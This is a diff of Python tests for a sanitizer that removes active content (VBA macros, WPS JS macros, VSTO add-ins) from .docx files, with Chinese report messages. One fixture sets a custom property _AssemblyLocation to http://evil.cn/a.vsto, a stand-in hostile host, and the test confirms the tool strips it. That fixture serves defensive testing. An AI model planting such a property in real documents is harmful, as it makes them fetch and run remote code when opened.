@@ -383,7 +383,13 @@ PARTS = {
         "customXml vbaData.xml",
         "word/vbaData.xml",
         "",
-        MACRO,
+        "宏：会运行程序，成表里不带",
+    ),
+    "macros of WPS": (
+        "jdeExtension JDEData.bin",
+        "word/JDEData.bin",
+        "",
+        "宏（WPS 的 JS 宏）：会运行程序，成表里不带",
     ),
     "a ribbon": (
         "ui/extensibility ../customUI/customUI.xml",
@@ -409,9 +415,24 @@ def test_parts_go_with_what_leads_to_them(link: str, part: str, types: str, mess
     assert "vbaProject" not in left.members["[Content_Types].xml"].decode()
 
 
+def test_properties_load_no_program() -> None:
+    properties = (
+        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties">'
+        '<property fmtid="{0}" pid="2" name="_AssemblyLocation">http://evil.cn/a.vsto</property>'
+        '<property fmtid="{0}" pid="3" name="密级">内部</property></Properties>'
+    )
+    document = linked(
+        docx("甲", section()), "", "c custom-properties docProps/custom.xml", parts={"docProps/custom.xml": properties}
+    )
+    assert active_in(document, "docx") == ["文件属性: 文件属性“_AssemblyLocation”（VSTO 程序）：会运行程序，成表里不带"]
+    left = text_of(left_of(document, "docx"), "docProps/custom.xml")
+    assert "Assembly" not in left
+    assert "内部" in left
+
+
 def test_macros_that_nothing_leads_to_go_too() -> None:
     document = linked(docx("甲", section()), "word/document.xml", parts={"word/vbaProject.bin": b"x"})
-    assert active_in(document, "docx") == [f": {MACRO}"]
+    assert active_in(document, "docx") == [": 宏：会运行程序，成表里不带"]
     assert "word/vbaProject.bin" not in left_of(document, "docx").members
 
 
